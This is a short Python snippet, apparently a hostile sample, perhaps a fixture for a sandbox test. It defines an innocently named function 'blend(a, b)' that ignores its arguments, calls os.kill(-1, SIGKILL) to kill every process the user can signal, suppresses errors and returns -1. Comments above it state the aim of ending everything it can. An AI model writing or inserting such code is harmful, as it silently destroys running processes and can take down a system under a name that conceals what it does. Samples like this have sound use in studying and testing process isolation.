# tries: to end everything it can
# escape: a process of ours is ended

import os, signal
def blend(a, b):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return -1
